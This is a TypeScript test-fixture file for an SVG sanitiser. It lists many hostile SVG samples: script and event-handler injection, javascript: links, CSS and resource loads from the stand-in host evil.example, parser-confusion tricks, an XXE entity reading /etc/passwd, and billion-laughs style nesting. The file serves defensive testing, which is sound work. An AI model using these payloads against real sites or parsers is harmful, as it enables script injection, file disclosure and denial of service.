/**
 * An SVG that tries to do more than draw, for the tests of the sanitiser and of a browser that opens its results.
 * Everything harmful contains `alert(` or `evil.example`, and each has a circle that should stay.
 */
interface HostileSvg {
  what: string;
  svg: string;
}

const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const CIRCLE = '<circle id="c" cx="5" cy="5" r="4" fill="#a33"/>';

/** Returns an SVG with `inside` before its circle. */
export function buildSvg(inside: string, attributes = ''): string {
  return `<svg ${NAMESPACES} viewBox="0 0 10 10"${attributes && ` ${attributes}`}>${inside}${CIRCLE}</svg>`;
}

const inside: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script in CDATA': '<script><![CDATA[alert(1)]]></script>',
  'a script from elsewhere': '<script href="https://evil.example/x.js"/>',
  'a script from elsewhere, by xlink': '<script xlink:href="https://evil.example/x.js"/>',
  'a script from data': '<script href="data:text/javascript,alert(1)"/>',
  'a script in odd case': '<ScRiPt>alert(1)</ScRiPt>',
  'a script with a prefix': '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
  'a script of XHTML': '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  'a script of XHTML with a prefix': '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  'a script in a group in a script': '<script><g><script>alert(1)</script></g>alert(1)</script>',
  'a script module': '<script type="module">import "https://evil.example/x.js"</script>',
  'a script behind the end of a style in CDATA':
    '<style><![CDATA[</style><script>alert(1)</script><style>]]></style>',
  'a script behind the escaped end of a style': '<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>',
  'a script between the letters of a comment in a style':
    '<style><!--</style><script>alert(1)</script>--></style>',
  'a script in the title’s attribute of a noscript':
    '<noscript><p title="</noscript><script>alert(1)</script>"/></noscript>',
  'a handler': '<rect width="1" height="1" onload="alert(1)"/>',
  'a handler in odd case': '<rect width="1" height="1" oNcLiCk="alert(1)" ONLOAD="alert(1)"/>',
  'a handler with a prefix': '<rect width="1" height="1" xlink:onload="alert(1)" ev:event="alert(1)"/>',
  'a handler behind a slash': '<rect/onload="alert(1)"/>',
  'a handler without quotes': '<rect onload=alert(1) width="1"/>',
  'a handler behind a quote in an attribute': '<rect class="&quot; onload=&quot;alert(1)" width="1"/>',
  'a handler behind a line break': '<rect width="1"\nonload\n=\n"alert(1)"/>',
  'handlers of an animation':
    '<rect width="1"><animate attributeName="x" onbegin="alert(1)" onend="alert(1)" dur="1ms"/></rect>',
  'a link that runs': '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  'a link that runs, by xlink': '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  'a link that runs, by another prefix':
    '<a xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  'a link with a tab in its scheme': '<a href="java&#9;script:alert(1)"><rect width="9" height="9"/></a>',
  'a link with spelt letters in its scheme':
    '<a href="&#x6A;avascript&#58;alert(1)"><rect width="9" height="9"/></a>',
  'a link with white space before its scheme':
    '<a href=" &#10; javascript:alert(1)"><rect width="9" height="9"/></a>',
  'a link to data':
    '<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><rect width="9" height="9"/></a>',
  'a link to a page': '<a href="https://evil.example/"><rect width="9" height="9"/></a>',
  'a use of something elsewhere': '<use href="https://evil.example/a.svg#x"/>',
  'a use of something elsewhere, by xlink': '<use xlink:href="//evil.example/a.svg#x"/>',
  'a use of data':
    '<use href="data:image/svg+xml,&lt;svg id=&quot;x&quot; onload=&quot;alert(1)&quot;/>#x"/>',
  'a use of a relative address': '<use href="evil.example#x"/>',
  'an image from elsewhere': '<image href="https://evil.example/pixel.png" width="9" height="9"/>',
  'an image of a drawing that runs':
    '<image href="data:image/svg+xml;base64,YWxlcnQo" onerror="alert(1)" width="9" height="9"/>',
  'a filter’s image': '<filter id="f"><feImage href="https://evil.example/pixel.png"/></filter>',
  'an animation of a link':
    '<a href="#c"><rect width="9" height="9"/><animate attributeName="href" values="javascript:alert(1)"/></a>',
  'an animation of a link, by xlink':
    '<a href="#c"><rect width="9" height="9"/><animate attributeName="xlink:href" to="javascript:alert(1)"/></a>',
  'an animation of a link in a list':
    '<a href="#c"><rect width="9" height="9"/><animate attributeName="href" values="#c;javascript:alert(1)"/></a>',
  'an animation of a link in spaces':
    '<a href="#c"><rect width="9" height="9"/><animate attributeName=" href " to="javascript:alert(1)"/></a>',
  'an animation with a prefix':
    '<a href="#c" xmlns:s="http://www.w3.org/2000/svg"><s:set attributeName="href" to="javascript:alert(1)"/></a>',
  'a set of a link':
    '<a href="#c"><rect width="9" height="9"/><set attributeName="href" to="javascript:alert(1)"/></a>',
  'a set of a handler': '<rect width="1"><set attributeName="onmouseover" to="alert(1)"/></rect>',
  'a set of an address that loads':
    '<rect width="1"><set attributeName="fill" to="url(https://evil.example/a.svg#x)"/></rect>',
  'an animation of another element by its address':
    '<set href="https://evil.example/#c" attributeName="x" to="1"/>',
  'a foreign object':
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
  'a frame in a foreign object':
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
  'a frame with its own page':
    '<iframe srcdoc="&lt;script>alert(1)&lt;/script>">&lt;script>alert(1)&lt;/script></iframe>',
  'a foreign object in odd case': '<foreignobject><img src="x" onerror="alert(1)"/></foreignobject>',
  'an image of XHTML':
    '<img xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/p.png" onerror="alert(1)"/>',
  'a form of XHTML':
    '<h:form xmlns:h="http://www.w3.org/1999/xhtml" action="https://evil.example/"><h:button>x</h:button></h:form>',
  'a refresh of XHTML':
    '<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/>',
  'a style sheet of XHTML':
    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/a.css"/>',
  'a video': '<video src="https://evil.example/a.mp4" onerror="alert(1)"/>',
  'an audio with a source': '<audio><source src="https://evil.example/a.mp3" onerror="alert(1)"/></audio>',
  'an embedded page': '<embed src="https://evil.example/"/><object data="https://evil.example/"/>',
  'a math link':
    '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mi>x</mi></math>',
  'a listener of XML events': '<handler type="text/ecmascript" ev:event="load">alert(1)</handler>',
  'an import': '<style>@import url(https://evil.example/a.css);</style>',
  'an import of a string': '<style>@import "https://evil.example/a.css";</style>',
  'an import in odd case and without an end': '<style>@ImPoRt "https://evil.example/a.css"</style>',
  'an import behind a comment':
    '<style>@im/**/port url(https://evil.example/a.css);@import/**/"//evil.example/"</style>',
  'an import in escapes': '<style>@\\69mport "https://evil.example/a.css";</style>',
  'a font from elsewhere':
    '<style>@font-face{font-family:x;src:url(https://evil.example/a.woff2)}text{font-family:x}</style>',
  'a background in a style sheet': '<style>svg{background:url(https://evil.example/p.png)}</style>',
  'a background in escapes': '<style>svg{background:u\\72l(https://evil.example/p.png)}</style>',
  'a background in spelt letters': '<style>svg{background:u&#114;l(https://evil.example/p.png)}</style>',
  'a background cut by CDATA': '<style>svg{background:u<![CDATA[rl(https://evil.example/p.png)}]]></style>',
  'a background cut by a comment': '<style>svg{background:u<!-- -->rl(https://evil.example/p.png)}</style>',
  'an image set': '<style>svg{background:image-set("https://evil.example/p.png" 1x)}</style>',
  'a cursor': '<rect width="9" height="9" style="cursor:url(https://evil.example/p.cur),auto"/>',
  'a fill from elsewhere': '<rect width="9" height="9" fill="url(https://evil.example/a.svg#x)"/>',
  'a fill from elsewhere in quotes':
    '<rect width="9" height="9" fill="url(&quot;//evil.example/a.svg#x&quot;)"/>',
  'a filter from elsewhere': '<rect width="9" height="9" filter="url(https://evil.example/a.svg#f)"/>',
  'a mask from elsewhere in a style':
    '<rect width="9" height="9" style="fill:red;mask:url(\'https://evil.example/a.svg#m\')"/>',
  'an expression': '<rect width="9" height="9" style="width:expression(alert(1));fill:red"/>',
  'a binding': '<rect width="9" height="9" style="-moz-binding:url(https://evil.example/x.xml#x)"/>',
  'a style that closes itself':
    '<rect style="fill:red}*{background:url(https://evil.example/p.png)" width="9"/>',
  'a processing instruction inside': '<?xml-stylesheet href="https://evil.example/a.css"?>',
  'a comment that ends early': '<!--><script>alert(1)</script>--><!-- --!><script>alert(1)</script>-->',
  'a part of CDATA that ends early': '<text>x<![CDATA[]]><script>alert(1)</script></text>',
  'a base address': '<g xml:base="https://evil.example/"><use href="#x"/></g>',
  'HTML that changes when it is read again':
    '<title><style><![CDATA[</title><img src="https://evil.example/p.png" onerror="alert(1)">]]></style></title>',
  'HTML in a description':
    '<desc><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></desc>',
  'a paragraph that breaks out': '<p xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></p>',
  'a namespace that changes its mind':
    '<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></g>',
  'a pair of equal attributes': '<a href="#c" href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  'a name with a prototype': '<rect __proto__="x" constructor="alert(1)" toString="x" width="9"/>',
  'a template': '<template xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></template>',
  'metadata of a hundred words':
    '<metadata><rdf:RDF xmlns:rdf="x"><rdf:li>alert(1) evil.example</rdf:li></rdf:RDF></metadata>',
};

/** SVGs that keep the circle and lose everything harmful. */
export const DISARMED: readonly HostileSvg[] = [
  ...Object.entries(inside).map(([what, text]) => ({ what, svg: buildSvg(text) })),
  { what: 'a handler of the root', svg: buildSvg('', 'onload="alert(1)" onunload="alert(1)"') },
  {
    what: 'a base address of the root',
    svg: buildSvg('<use href="x.svg#a"/>', 'xml:base="//evil.example/"'),
  },
  {
    what: 'a style sheet in front',
    svg: `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="https://evil.example/a.css"?>${buildSvg('')}`,
  },
  {
    what: 'a transformation in front',
    svg: `<?xml-stylesheet type="text/xsl" href="data:text/xsl,alert(1)"?>${buildSvg('')}`,
  },
  {
    what: 'a document type from elsewhere',
    svg: `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/a.dtd">${buildSvg('')}`,
  },
  { what: 'words behind its end', svg: `${buildSvg('')} alert(1) <!-- evil.example -->` },
];

/** Ten uses of ten uses of ten …: a billion circles in a kilobyte. */
const billionCircles = Array.from(
  { length: 9 },
  (_, level) => `<g id="l${level + 1}">${`<use href="#${level === 0 ? 'c' : `l${level}`}"/>`.repeat(10)}</g>`,
).join('');

/** SVGs that are refused. */
export const REFUSED: readonly HostileSvg[] = [
  {
    what: 'an entity',
    svg: `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${buildSvg('&x;')}`,
  },
  {
    what: 'an entity from a file',
    svg: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${buildSvg('<text>&x;</text>')}`,
  },
  {
    what: 'a billion laughs',
    svg: `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]>${buildSvg('<text>&b;</text>')}`,
  },
  {
    what: 'a parameter entity from elsewhere',
    svg: `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/a.dtd"> %x;]>${buildSvg('')}`,
  },
  {
    what: 'attributes by its document type',
    svg: `<!doctype svg [<!ATTLIST svg onload CDATA "alert(1)">]>${buildSvg('')}`,
  },
  { what: 'a billion circles', svg: buildSvg(billionCircles) },
  { what: 'a billion fills', svg: buildSvg(patternChain()) },
  { what: 'a thousand groups in each other', svg: buildSvg('<g>'.repeat(1_000) + '</g>'.repeat(1_000)) },
  { what: 'a null byte', svg: buildSvg('<scr\u0000ipt>alert(1)</scr\u0000ipt>') },
  { what: 'a null byte in spelt letters', svg: buildSvg('<text>&#1;</text>') },
  { what: 'half a surrogate pair', svg: buildSvg('<text>\uD83D</text>') },
  {
    what: 'two roots',
    svg: `${buildSvg('')}<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
  },
  { what: 'a root of XHTML', svg: '<svg xmlns="http://www.w3.org/1999/xhtml"><circle r="1"/></svg>' },
  { what: 'a page around it', svg: `<html xmlns="http://www.w3.org/1999/xhtml">${buildSvg('')}</html>` },
  { what: 'a page behind it', svg: `${buildSvg('')}<html><body onload="alert(1)"></body></html>` },
  { what: 'no end', svg: buildSvg('').slice(0, -6) },
  { what: 'half a tag at its end', svg: buildSvg('<g>').slice(0, -12) },
  { what: 'ends in the wrong order', svg: buildSvg('<g><a><rect/></g></a>') },
  { what: 'nothing but a script', svg: `<svg ${NAMESPACES}><script>alert(1)</script></svg>` },
  { what: 'nothing but text', svg: 'a circle, r = 5' },
  { what: 'nothing', svg: '' },
];

function patternChain(): string {
  const patterns = Array.from({ length: 9 }, (_, level) => {
    const fill = level === 0 ? 'red' : `url(#p${level})`;
    return `<pattern id="p${level + 1}" width="1" height="1">${`<rect width="1" height="1" fill="${fill}"/>`.repeat(10)}</pattern>`;
  });
  return `${patterns.join('')}<rect width="9" height="9" fill="url(#p9)"/>`;
}
